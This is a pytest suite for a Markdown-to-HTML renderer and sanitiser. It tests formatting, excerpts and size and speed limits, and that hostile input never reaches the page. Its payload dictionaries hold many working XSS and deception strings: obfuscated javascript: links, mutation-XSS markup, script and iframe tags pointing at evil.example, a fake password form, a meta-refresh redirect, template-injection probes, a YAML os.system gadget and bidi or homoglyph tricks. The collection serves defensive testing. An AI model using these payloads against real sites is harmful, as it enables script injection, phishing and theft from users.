"""Markdown → safe HTML: what stays, in which form, and what never comes through."""

import re
from html.parser import HTMLParser
from itertools import pairwise
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from postings.importing import layout
from postings.rendering import MAX_HTML_BYTES, TooLarge, excerpt, render, sanitise
from tests.factories import posting_text
from tests.test_layout import within


def line(markdown):
    """The HTML without the line ends, which mean nothing."""
    return render(markdown).replace("\n", "")


def words(html):
    return re.sub(r"<[^>]*>", " ", html).split()


def link(address, text, title=""):
    return f'<a href="{address}"{title} rel="nofollow noopener ugc">{text}</a>'


# --- Lists indented by four blanks -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("    - oak", "<ul><li>oak</li></ul>"),
        ("    * oak\n    * elm\n    * ash", "<ul><li>oak</li><li>elm</li><li>ash</li></ul>"),
        ("      + oak\n      + elm", "<ul><li>oak</li><li>elm</li></ul>"),
        ("    1. oak\n    2. elm", "<ol><li>oak</li><li>elm</li></ol>"),
        ("Trees\n\n    - oak\n    - elm", "<p>Trees</p><ul><li>oak</li><li>elm</li></ul>"),
        ("Trees\n    - oak\n    - elm", "<p>Trees</p><ul><li>oak</li><li>elm</li></ul>"),
        ("Trees\n    3) oak\n    4) elm", '<p>Trees</p><ol start="3"><li>oak</li><li>elm</li></ol>'),
        ("Trees  \n        - oak\n        - elm", "<p>Trees</p><ul><li>oak</li><li>elm</li></ul>"),
        ("## Trees\n    - oak\n    - elm", "<h2>Trees</h2><ul><li>oak</li><li>elm</li></ul>"),
        ("    - oak\n    - elm\n\nAnd ash.", "<ul><li>oak</li><li>elm</li></ul><p>And ash.</p>"),
        (
            "    - oak\n        - red\n        - white\n    - elm",
            "<ul><li>oak<ul><li>red</li><li>white</li></ul></li><li>elm</li></ul>",
        ),
        (
            "- oak\n    - red\n    - white\n        - old\n        - young\n- elm",
            "<ul><li>oak<ul><li>red</li><li>white<ul><li>old</li><li>young</li></ul></li></ul></li><li>elm</li></ul>",
        ),
        ("1. oak\n    * red\n    * white\n2. elm",
         "<ol><li>oak<ul><li>red</li><li>white</li></ul></li><li>elm</li></ol>"),
        ("- oak\n\n    Tall.\n\n    Old.", "<ul><li><p>oak</p><p>Tall.</p><p>Old.</p></li></ul>"),
        ("> - oak\n>     - red\n>     - white",
         "<blockquote><ul><li>oak<ul><li>red</li><li>white</li></ul></li></ul></blockquote>"),
        ("    Trees are our trade.", "<p>Trees are our trade.</p>"),
    ],
)  # fmt: skip
def test_an_indented_list_is_a_list_and_never_code(markdown, html):
    assert line(markdown) == html


def test_lists_may_be_nested_nine_deep():
    html = render("\n".join("    " * depth + f"- tree{depth}" for depth in range(9)))
    assert html.count("<ul>") == 9
    assert words(html) == [f"tree{depth}" for depth in range(9)]


def test_a_list_inside_a_fence_stays_as_it_is():
    assert render("```\nTrees\n    - oak\n```") == "<pre><code>Trees\n    - oak\n</code></pre>\n"


def test_a_dash_between_words_starts_no_list():
    assert line("Trees\n- oak") == "<p>Trees</p><ul><li>oak</li></ul>"
    assert line("Oak\n    -elm") == "<p>Oak-elm</p>"


@pytest.mark.parametrize("number", ["0", "7", "1990", "999999999"])
def test_an_ordered_list_keeps_the_number_it_starts_with(number):
    assert line(f"{number}. oak") == f'<ol start="{number}"><li>oak</li></ol>'


# --- Headings ----------------------------------------------------------------------------------------


def headings(markdown):
    return re.findall(r"<h(\d)>", render(markdown))


@pytest.mark.parametrize(
    ("markdown", "levels"),
    [
        ("# a", "2"),
        ("###### a", "2"),
        ("# a\n## b\n### c\n## d\n# e", "23432"),
        ("### a\n##### b\n### c\n# d", "2322"),
        ("# a\n#### b\n## c", "233"),
        ("# a\n## b\n### c\n#### d\n##### e\n###### f", "234566"),
        ("a\n===\n\nb\n---\n", "23"),
        ("> # a\n\n- ## b", "23"),
    ],
)
def test_headings_stand_under_the_page_title_by_their_place_in_the_outline(markdown, levels):
    assert "".join(headings(markdown)) == levels


_headings = st.lists(st.integers(1, 6), max_size=15)


@settings(deadline=None, database=None)
@given(_headings)
def test_the_outline_never_skips_a_level(levels):
    found = [1, *map(int, headings("\n\n".join(f"{'#' * level} tree" for level in levels)))]
    assert len(found) == len(levels) + 1
    assert all(2 <= below <= min(above + 1, 6) for above, below in pairwise(found))


@pytest.mark.parametrize("markdown", ["#", "## ", "### ![](logo.png)", "#### [](https://a.example)"])
def test_drops_headings_that_hold_nothing(markdown):
    assert line(f"{markdown}\n\nTrees.") == "<p>Trees.</p>"


@pytest.mark.parametrize(("markdown", "levels"), [("#\n\n## Trees", "2"), ("# a\n\n## ![](x)\n\n### b", "23")])
def test_an_empty_heading_leaves_no_gap_in_the_outline(markdown, levels):
    assert "".join(headings(markdown)) == levels


# --- The other elements ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        (
            "| tree | m |\n|:-----|--:|\n| oak | 30 |\n| *elm* | 25 |",
            "<table><thead><tr><th>tree</th><th>m</th></tr></thead><tbody><tr><td>oak</td><td>30</td></tr>"
            "<tr><td><em>elm</em></td><td>25</td></tr></tbody></table>",
        ),
        ("tree | m\n--- | ---", "<table><thead><tr><th>tree</th><th>m</th></tr></thead></table>"),
        ("```python\nplant(<oak>)\n```", "<pre><code>plant(&lt;oak&gt;)</code></pre>"),
        ("~~~\noak\n~~~", "<pre><code>oak</code></pre>"),
        ("`<oak>`", "<p><code>&lt;oak&gt;</code></p>"),
        ("**oak** *elm* ~~ash~~", "<p><strong>oak</strong> <em>elm</em> <s>ash</s></p>"),
        ("oak  \nelm\\\nash", "<p>oak<br>elm<br>ash</p>"),
        ("oak\n\n***\n\nelm", "<p>oak</p><hr><p>elm</p>"),
        ("> oak", "<blockquote><p>oak</p></blockquote>"),
        ("&amp; &lt; &auml; &#8364;", "<p>&amp; &lt; ä €</p>"),
        ("<b>oak</b> & <script>elm</script>", "<p>&lt;b&gt;oak&lt;/b&gt; &amp; &lt;script&gt;elm&lt;/script&gt;</p>"),
        ("- [ ] oak\n- [x] elm", "<ul><li>[ ] oak</li><li>[x] elm</li></ul>"),
        ("", ""),
        (" \n\n ", ""),
    ],
)
def test_renders_what_postings_use(markdown, html):
    assert line(markdown) == html


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("![An old oak](https://t.example/oak.png)", "<p>An old oak</p>"),
        ('![An old oak](oak.png "seen from the south")', "<p>An old oak</p>"),
        ("![An old oak][oak]\n\n[oak]: https://t.example/oak.png", "<p>An old oak</p>"),
        ("![a < b](oak.png)", "<p>a &lt; b</p>"),
        ("Trees ![](https://t.example/pixel.gif)grow.", "<p>Trees grow.</p>"),
        ("![](https://t.example/pixel.gif)", ""),
        ("[![An old oak](oak.png)](https://t.example)", f"<p>{link('https://t.example', 'An old oak')}</p>"),
        ("Trees [![](oak.png)](https://t.example)grow.", "<p>Trees grow.</p>"),
    ],
)
def test_an_image_becomes_its_words(markdown, html):
    assert line(markdown) == html


@pytest.mark.parametrize(
    ("markdown", "html"),
    [("![an **old** oak](oak.png)", "<p>an old oak</p>"), ("![oak ![elm](e.png)](o.png)", "<p>oak elm</p>")],
)
def test_the_words_of_an_image_lose_their_marks(markdown, html):
    assert line(markdown) == html


@pytest.mark.parametrize(
    "address",
    [
        "https://t.example",
        "http://t.example/oak?age=9#top",
        "HTTPS://t.example/",
        "https://t.example:8080/a(b)",
        "mailto:oak@t.example",
        "https://xn--bcher-kva.example/",
    ],
)
def test_keeps_plain_links(address):
    assert line(f"[oak](<{address}>)") == f"<p>{link(address, 'oak')}</p>"


def test_keeps_a_link_title_and_links_in_angle_brackets():
    titled = link("https://t.example", "oak", ' title="very old"')
    assert line('[oak](https://t.example "very old")') == f"<p>{titled}</p>"
    assert line("<https://t.example>") == f"<p>{link('https://t.example', 'https://t.example')}</p>"
    assert line("<oak@t.example>") == f"<p>{link('mailto:oak@t.example', 'oak@t.example')}</p>"


@pytest.mark.parametrize(
    "address",
    [
        "/apply/oak", "oak.html", "#oak", "?q=oak", "//t.example/", "https:oak", "https:///oak", "ftp://t.example/",
        "https://me:secret@t.example/", "https://me@t.example/", "mailto:", "mailto:oak", "mailto:?bcc=a@t.example",
        "mailto:oak@t.example?bcc=elm@t.example", "tel:+43123", "intent://t.example",
        "https://t.example:99999/", "https://[::1/", 'https://t.example:99999/ "a title"',
    ],
)  # fmt: skip
def test_a_link_that_leads_anywhere_else_is_only_its_words(address):
    assert line(f"an [old *oak*]({address}) here") == "<p>an old <em>oak</em> here</p>"


@pytest.mark.parametrize(
    "empty",
    [
        "[](https://t.example)",
        pytest.param("[ ](https://t.example)"),
        pytest.param("[&nbsp;](https://t.example)"),
    ],
)
def test_drops_links_that_hold_nothing(empty):
    assert "<a" not in render(f"oak {empty} elm")


# --- Bounds ------------------------------------------------------------------------------------------


def test_refuses_what_becomes_too_much_html():
    reference = f"[x]: https://t.example/{'a' * 1000}\n\n"
    assert render(reference + "[x]" * 200)
    with pytest.raises(TooLarge, match="its HTML would be over 256 KiB"):
        render(reference + "[x]" * 2000)


def test_counts_bytes_not_characters():
    assert len(render("é" * (MAX_HTML_BYTES // 2 - 10)).encode()) <= MAX_HTML_BYTES
    with pytest.raises(TooLarge):
        render("é" * (MAX_HTML_BYTES // 2))


_ATTACKS = {
    "brackets": "[", "image brackets": "![", "link openers": "[a](", "closed links": "[a](b)", "half links": "](",
    "emphasis": "*a_ ", "strong": "**a *b ", "stars": "a**b*c ", "strikes": "~~a ", "backticks": "`", "ticks": "`a``",
    "fences": "```\n", "quotes": "> ", "quoted lists": "> - a\n", "dashes": "- ", "items": "- a\n", "loose": "- a\n\n",
    "indented items": "a\n    - b\n", "numbers": "1. ", "hashes": "# ", "empty headings": "#\n", "setext": "a\n=\n",
    "underlines": "=\n", "cells": "|", "rules": "|-|\n", "tables": "a|b\n-|-\n", "entities": "&amp;", "half": "&#x",
    "angles": "<", "tags": "<a ", "autolinks": "<http:", "mails": "<a@", "comments": "<!--", "escapes": "\\",
    "references": "[x]: /u\n", "reference uses": "[x]", "titles": "[a](b \"", "tabs": "\t", "blanks": " ",
    "line ends": "\n", "blank lines": " \n", "paragraphs": "a\n\n", "accents": "e\u0301", "emoji": "🌳",
    "breaks": "a  \n",
}  # fmt: skip


@pytest.mark.parametrize("piece", _ATTACKS.values(), ids=_ATTACKS.keys())
def test_is_quick_with_any_piece_repeated(piece):
    # A quarter of the cap: what grows with the square of its length takes far longer; the slowest takes 0.4 s.
    with within(1.5):
        render_or_refuse(piece * (layout.MAX_BYTES // 4 // len(piece.encode())))


@pytest.mark.parametrize("name", ["brackets", "image brackets", "link openers", "tables"])
def test_the_slowest_pieces_are_bearable_up_to_the_cap(name):
    with within(6):
        render_or_refuse(_ATTACKS[name] * (layout.MAX_BYTES // len(_ATTACKS[name])))


@pytest.mark.parametrize(
    "markdown",
    [
        pytest.param("[" * 30_000 + "]" * 30_000, id="opened and closed brackets"),
        pytest.param("[a](" + "(" * 60_000, id="brackets in an address"),
        pytest.param("".join("`" * n + " " for n in range(350)), id="growing backticks"),
        pytest.param("|a" * 3000 + "\n" + "|-" * 3000 + "\n" + "|b\n" * 500, id="table bomb"),
        pytest.param("\n".join(" " * n + "- a" for n in range(350)), id="growing indentation"),
        pytest.param("\n".join("    " * (n % 15) + "- a" for n in range(3000)), id="lists up and down"),
        pytest.param("> - a\n" + "b\n" * 30_000, id="lazy lines"),
        pytest.param("[x]: /u\n\n" + "[x]" * 20_000, id="references"),
        pytest.param("[x]: https://t.example/" + "a" * 1000 + "\n\n" + "[x]" * 20_000, id="long references"),
        pytest.param(
            "[a](mailto:" + "@" * 30_000 + "?)",
            id="mail address of @",
        ),
    ],
)
def test_is_quick_with_hostile_bodies(markdown):
    with within(6 if "mailto" not in markdown else 0.5):
        render_or_refuse(markdown)


# --- Excerpt -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("markdown", "text"),
    [
        ("We grow trees.", "We grow trees."),
        ("## Who we are\n\nWe grow trees.", "We grow trees."),
        ("Oak\n\n- elm\n- ash", "Oak elm ash"),
        ("AT&T \\< \\*us\\* `<b>`", "AT&T < *us* <b>"),
        ("## Nothing but a heading", ""),
        ("", ""),
        ("[oak](https://t.example) tree", "oak tree"),
        pytest.param(
            "We grow **oak**, *elm* and un*believ*able `ash`.",
            "We grow oak, elm and unbelievable ash.",
        ),
    ],
)
def test_the_excerpt_is_the_first_words(markdown, text):
    assert excerpt(render(markdown)) == text


def test_the_excerpt_ends_behind_a_whole_word():
    short = excerpt(render("evergreen " * 100))
    assert 225 < len(short) <= 240
    assert short.endswith("evergreen…")


def test_the_excerpt_of_exactly_its_length_is_whole():
    assert excerpt(f"<p>{'oak ' * 59}elm</p>") == ("oak " * 59) + "elm"


def test_the_excerpt_cuts_a_word_that_is_too_long():
    short = excerpt(render("o" * 1000))
    assert (len(short), short[-1]) == (240, "…")


# --- What never comes through ------------------------------------------------------------------------

_TAGS = {
    "p", "br", "hr", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "pre", "code", "em", "strong", "s",
    "a", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
_ATTRIBUTES = {("a", "href"), ("a", "title"), ("a", "rel"), ("ol", "start")}


class _Oracle(HTMLParser):
    """Reads HTML with another parser than the sanitiser's, and notes all that is not plain text with plain links."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.dangers = []

    def handle_starttag(self, tag, attrs):
        if tag not in _TAGS:
            self.dangers.append(f"<{tag}>")
        self.dangers += [f"{tag} {name}" for name, _ in attrs if (tag, name) not in _ATTRIBUTES]
        found = dict(attrs)
        if tag == "a" and found.get("rel") != "nofollow noopener ugc":
            self.dangers.append("link without rel")
        if "href" in found:
            self.check(found["href"] or "")
        if "start" in found and not re.fullmatch(r"[0-9]{1,9}", found["start"] or ""):
            self.dangers.append("start")

    def check(self, href):
        parts = urlsplit(href)
        if re.search(r"[\x00-\x20\x7f-\xa0\\\u2028\u2029\u202a-\u202e]", href):
            self.dangers.append(f"href with hidden characters {href!r}")
        elif parts.scheme in ("http", "https"):
            if not parts.netloc or "@" in parts.netloc:
                self.dangers.append(f"href {href!r}")
        elif parts.scheme != "mailto" or parts.query or "@" not in parts.path:
            self.dangers.append(f"href {href!r}")

    def handle_comment(self, data):
        self.dangers.append("comment")

    def handle_decl(self, decl):
        self.dangers.append("declaration")

    def handle_pi(self, data):
        self.dangers.append("processing instruction")

    def unknown_decl(self, data):
        self.dangers.append("CDATA")


def dangers(html):
    oracle = _Oracle()
    oracle.feed(html)
    oracle.close()
    return oracle.dangers


def render_or_refuse(markdown):
    try:
        return render(markdown)
    except TooLarge:
        return ""


# One payload or more of each family in which script, foreign content or deceit has come through Markdown before.
_MARKDOWN_PAYLOADS = {
    "scheme javascript": "[oak](javascript:alert(1))",
    "scheme mixed case": "[oak](JaVaScRipT:alert(1))",
    "scheme vbscript": "[oak](vbscript:msgbox(1))",
    "scheme data html": "[oak](data:text/html,<script>alert(1)</script>)",
    "scheme data svg": "[oak](data:image/svg+xml;base64,PHN2Zy8+) ![oak](data:image/svg+xml,<svg/onload=alert(1)>)",
    "scheme data image": "[oak](data:image/png;base64,iVBORw0KGgo=)",
    "scheme file": "[oak](file:///etc/passwd)",
    "scheme of programs": "[a](intent://x#Intent;end) [b](ms-msdt:/id) [c](tel:1) [d](steam://run/1) [e](blob:x)",
    "decimal entity": "[oak](&#106;&#97;vascript:alert(1))",
    "hex entity": "[oak](&#x6A;avascript&colon;alert&lpar;1&rpar;)",
    "entity without semicolon": "[oak](&#106&#97vascript:alert(1)) [oak](&#0000106avascript:alert(1))",
    "tab entity": "[oak](java&Tab;script:alert(1))",
    "line end entity": "[oak](java&NewLine;script:alert(1)) [oak](&#10;javascript:alert(1))",
    "raw tab": "[oak](<java\tscript:alert(1)>) [oak](java\tscript:alert(1))",
    "percent tab": "[oak](java%09script:alert(1))",
    "raw line end": "[oak](java\nscript:alert(1)) [oak](<java\nscript:alert(1)>)",
    "leading control": "[oak](\x01javascript:alert(1)) [oak](&#1;javascript:alert(1)) [oak](\x1fjavascript:alert(1))",
    "NUL": "[oak](java\0script:alert(1)) [oak](java&#0;script:alert(1))",
    "invisible blanks": "[oak](\u00a0javascript:alert(1)) [oak](java\u200bscript:alert(1))",
    "percent-encoded": "[oak](%6aavascript:alert(1)) [oak](javascript%3aalert(1))",
    "full-width": "[oak](ｊａｖａｓｃｒｉｐｔ：alert(1)) [oak](javascript：alert(1))",
    "backslashes": r"[oak](\\evil.example) [oak](https://evil.example\@good.example) [oak](https:\\evil.example)",
    "pointed address": "[oak](<javascript:alert(1)>)",
    "pointed address over two lines": "[oak](<javascript:\nalert(1)>)",
    "autolink": "<javascript:alert(1)> <JAVASCRIPT:alert(1)>",
    "autolink with entity": "<javascript&colon;alert(1)> <&#106;avascript:alert(1)>",
    "autolink data": "<data:text/html,<script>alert(1)</script>>",
    "bare address with quote": 'https://evil.example/"onmouseover="alert(1) www.evil.example"x=',
    "reference": "[oak]\n\n[oak]: javascript:alert(1)",
    "reference title": "[oak][1]\n\n[1]: https://t.example '\"onmouseover=alert(1) x=\"'",
    "collapsed reference": "[oak][]\n\n[oak]: <javascript:alert(1)>",
    "case-folded reference": "[ẞ]\n\n[ss]: javascript:alert(1)",
    "image": "![oak](javascript:alert(1)) ![oak](https://evil.example/x.svg)",
    "image words": '![oak" onerror="alert(1)](x) ![<img src=x onerror=alert(1)>](x)',
    "image title": "![oak](x '\" onerror=\"alert(1)')",
    "link title": "[oak](https://t.example '\"><script>alert(1)</script>')",
    "tracking pixel": "![](https://evil.example/p.gif?who=1)",
    "image in link": "[![oak](x onerror=alert(1))](javascript:alert(1))",
    "link in link": "[a [b](javascript:alert(1)) c](javascript:alert(2)) [a <https://t.example> b](//evil.example)",
    "user name": "[oak](https://good.example@evil.example/) <https://a:b@evil.example/>",
    "protocol-relative": "[oak](//evil.example) [oak](///evil.example) [oak](https:evil.example)",
    "mail header": "[oak](mailto:a@t.example?bcc=b@evil.example) [oak](mailto:a@t.example%0abcc:b)",
    "split script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "fence info": '```js" onclick="alert(1)\noak\n```\n\n```<script>alert(1)</script>\noak\n```',
    "fence class": "```x class=btn-danger style=position:fixed\noak\n```\n\n~~~admin-button\noak\n~~~",
    "inline code": "`<script>alert(1)</script>` ``<img src=x onerror=alert(1)>``",
    "table cell": "| <script>alert(1)</script> | [b](javascript:a) |\n|---|---|\n| <img src=x onerror=alert(1)> | c |",
    "table alignment": '| a |\n|:-:" onclick="alert(1)|\n\n| a |\n|:-:|\n| b |',
    "footnote": "oak[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
    "heading attributes": "## oak {#login .btn onclick=alert(1)}",
    "attribute list": "oak\n{: onclick=alert(1) style=position:fixed #id }\n\n[oak](https://t.example){onclick=alert(1)}",
    "task list": "- [ ] <input type=checkbox onclick=alert(1)>\n- [x] oak",
    "abbreviation": '*[oak]: "><script>alert(1)</script>\n\noak',
    "front matter": "---\n!!python/object/apply:os.system ['true']\n---\noak",
    "heading ids": "## csrfmiddlewaretoken\n\n## __proto__\n\n## body",
    "Django template": "{% load static %}{{ settings.SECRET_KEY }}{% csrf_token %}{# oak #}",
    "other templates": "${7*7} <%= 7*7 %> #{7*7} {{7*7}} %s %(x)s {0.__class__} [[7*7]]",
    "bidi": "oak\u202egnp.exe\u2066 [oak](https://t.example/\u202egpj.exe)",
    "homoglyphs": "[раураl](https://раураl.example) аdmin",
    "zero width": "jav\u200bascript:\u2060\U000e0061 o\u200dak",
    "zalgo": "o" + "\u0300\u0316\u0334" * 300 + "ak",
    "controls": "o\0a\x01k\x1b[31m\x85\x9b oak [oak](https://t.example/\x1b\x07)",
    "odd line ends": "oak\rash\x0b\x0celm\u2028[x](javascript:alert(1))\u2029\x85<script>alert(1)</script>",
    "non-characters": "oak\ufffe\uffff\ufdd0 [oak](https://t.example/\uffff)",
    "large start": "1234567890. oak\n\n999999999. elm",
}
_HTML_PAYLOADS = {
    "script": "<script>alert(1)</script><script src=https://evil.example/x.js></script>",
    "odd case and attributes": '<ScRiPt/x="y" src=//evil.example>alert(1)</sCrIpT\n>',
    "unclosed": "<script>alert(1)//",
    "img onerror": "<img src=x onerror=alert(1)>",
    "slashes": "<img/src=x/onerror=alert(1)><svg/onload=alert(1)>",
    "back-tick": "<img src=`x`onerror=alert(1)>",
    "srcset": '<img srcset="https://evil.example/p 1x"><picture><source srcset=//evil.example></picture>',
    "svg onload": "<svg onload=alert(1)>",
    "svg script": "<svg><script>alert&#40;1)</script></svg>",
    "svg animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=9>oak</text></a></svg>",
    "svg use": '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"/></svg>',
    "foreignObject": "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "math": '<math href="javascript:alert(1)">oak</math>',
    "maction": '<math><maction actiontype="statusline#//x.example" xlink:href="javascript:a()">oak</maction></math>',
    "style mutation": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;svg onload=a()&gt;\">",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mglyph": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "form nesting": "<form><form><input name=a></form><input formaction=javascript:alert(1)>",
    "textarea": '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    "xmp and title": '<xmp><p title="</xmp><img src=x onerror=alert(1)>"><title><a id="</title><svg onload=alert(1)>">',
    "template": "<template><script>alert(1)</script></template><p><template shadowrootmode=open><slot></template>",
    "select": "<select><template><style><!--</style><a rel=\"--></style></template></select><svg onload=a()>\">",
    "plaintext": "<plaintext><script>alert(1)</script>",
    "CDATA": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg><![CDATA[oak]]>",
    "short comment": "<!--><img src=x onerror=alert(1)>-->",
    "odd comment end": "<!-- --!><img src=x onerror=alert(1)> -->",
    "declarations": '<?xml-stylesheet href="javascript:alert(1)"?><!DOCTYPE a [<!ENTITY x "y">]><!ELEMENT a ANY>',
    "overlay": '<a style="position:fixed;inset:0;opacity:0" href="https://evil.example">oak</a>',
    "style": "<style>@import url(//evil.example/x.css);body{display:none}</style>",
    "expression": '<p style="width:expression(alert(1));background:url(javascript:alert(1))">oak</p>',
    "link": '<link rel=stylesheet href=//evil.example/x.css><link rel="prefetch" href=//evil.example>',
    "iframe": "<iframe src=https://evil.example></iframe><frameset><frame src=//evil.example></frameset>",
    "srcdoc": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "plug-ins": "<object data=//evil.example></object><embed src=//evil.example><applet code=x></applet><portal src=x>",
    "form": "<form action=https://evil.example><input name=password type=password><button>Log in</button></form>",
    "button": "<button form=apply formaction=//evil.example>Apply</button>",
    "isindex": "<isindex action=javascript:alert(1) type=image><keygen autofocus onfocus=alert(1)>",
    "meta refresh": '<meta http-equiv=refresh content="0;url=//evil.example"><meta http-equiv=Set-Cookie content=a>',
    "base": "<base href=https://evil.example/>",
    "body": "<body onload=alert(1) background=//evil.example/x.png>",
    "details": "<details open ontoggle=alert(1)><summary>oak</summary></details>",
    "media": "<video src=x onerror=alert(1) poster=//evil.example></video><audio src=//evil.example onloadstart=a()>",
    "marquee": "<marquee onstart=alert(1)>oak</marquee><input autofocus onfocus=alert(1)><p tabindex=1 onfocus=a()>",
    "custom element": "<x-oak onclick=alert(1)>oak</x-oak><oak is=button onpointerover=alert(1)>",
    "popover": "<button popovertarget=x>oak</button><div popover id=x onbeforetoggle=alert(1)>oak</div>",
    "target": '<a href="https://evil.example" target=_blank>oak</a>',
    "rel and ping": '<a href="https://t.example" rel="opener me" ping="https://evil.example" download>oak</a>',
    "ids and names": '<a id=defaultView name=cookie href="https://t.example">oak</a><p id=csrfmiddlewaretoken>oak</p>',
    "classes": '<p class="btn btn-danger">oak</p><a class="button" href="https://t.example">oak</a>',
    "roles": '<p role=alert aria-label="You are logged out">oak</p>',
    "hidden text": '<p hidden>oak</p><font size=0 color=white>oak</font><p style="display:none">oak</p>',
    "way out of the page": "</section></main></body></html><h1>Log in</h1><div>oak</div>",
    "data attributes": '<p data-total="0" hx-get=//evil.example x-data="alert(1)" v-on:click=x @click=x>oak</p>',
    "href tricks": '<a href="java&#x09;script:a()">a</a><a href=" javascript:a()">b</a><a href="//evil.example">c</a>',
    "link namespace": '<a xlink:href="javascript:alert(1)" xmlns:xlink="x">oak</a>',
    "start": '<ol start="1 onclick=alert(1)"><li value=9>oak</li></ol><ol start=-9999999999><li>oak</ol>',
}  # fmt: skip
_PAYLOADS = {**_MARKDOWN_PAYLOADS, **_HTML_PAYLOADS}


@pytest.mark.parametrize("payload", _PAYLOADS.values(), ids=_PAYLOADS.keys())
def test_no_payload_comes_through(payload):
    for around in ("{}", "oak {} oak", "- {}", "## {}", "> {}", "[{}](https://t.example)"):
        assert dangers(render(around.replace("{}", payload))) == [], around


@pytest.mark.parametrize("payload", _PAYLOADS.values(), ids=_PAYLOADS.keys())
def test_no_payload_comes_through_a_whole_file(payload):
    html = render(layout.read(posting_text(body=payload).encode()).body)
    assert dangers(html) == []
    # Reading the file dropped what misleads the eye; nothing brings it back.
    assert not re.search("[\0\x1b\x85\u200b\u202e\u2066\ufeff\uffff]", html)


@pytest.mark.parametrize("payload", _HTML_PAYLOADS.values(), ids=_HTML_PAYLOADS.keys())
def test_the_sanitiser_alone_is_enough(payload):
    """Should the Markdown parser ever let HTML through, the second guard holds."""
    assert dangers(payload) != []
    assert dangers(sanitise(payload)) == []


@pytest.mark.parametrize("payload", _MARKDOWN_PAYLOADS.values(), ids=_MARKDOWN_PAYLOADS.keys())
def test_the_sanitiser_alone_is_enough_for_a_careless_markdown_parser(payload):
    careless = MarkdownIt("commonmark", {"html": True})
    careless.validateLink = lambda url: True
    assert dangers(sanitise(careless.render(payload))) == []


def test_html_in_a_posting_stays_visible_as_text():
    assert line("<img src=x onerror=alert(1)>") == "<p>&lt;img src=x onerror=alert(1)&gt;</p>"
    assert line("{{ oak }} {% elm %}") == "<p>{{ oak }} {% elm %}</p>"


_pieces = st.sampled_from(
    [
        *_PAYLOADS.values(),
        "\n", "\n\n", "<", ">", '"', "'", "`", "```", "[", "]", "(", ")", "](", "![", "<!--", "-->", "#", "|", "|-|",
        "- ", "1. ", "> ", "*", "**", "~~", "&", "&#", ";", ":", "//", "\\", "\t",
        "javascript:", "https://", "mailto:", "@", "=", "on", "src", "href", "</p>", "<svg>", "<style>", "\0", "\u2028",
        "a\n===\n", "    - a\n", "[a]: ", "data:",
    ]
)  # fmt: skip


@settings(deadline=None, database=None, max_examples=100)
@given(st.one_of(st.text(), st.lists(_pieces, max_size=12).map("".join)))
def test_no_splice_of_payloads_comes_through(markdown):
    html = render_or_refuse(markdown)
    assert dangers(html) == []
    assert sanitise(html) == html
    assert len(excerpt(html)) <= 240
